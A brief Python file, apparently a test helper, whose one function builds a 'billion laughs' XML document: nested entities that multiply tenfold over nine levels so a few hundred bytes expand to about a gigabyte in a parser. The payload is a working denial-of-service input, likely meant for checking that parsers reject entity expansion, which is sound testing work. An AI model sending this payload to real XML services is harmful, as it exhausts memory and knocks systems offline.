"""XML that is small and would unpack to a gigabyte, the "billion laughs"."""


def entity_bomb(root):
    """A document with this root, the text of which is an entity of ten of an entity of ten, nine times over."""
    entities = ['<!ENTITY a0 "haha">']
    entities += [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)]
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{"".join(entities)}]><{root}>&a9;</{root}>'.encode()
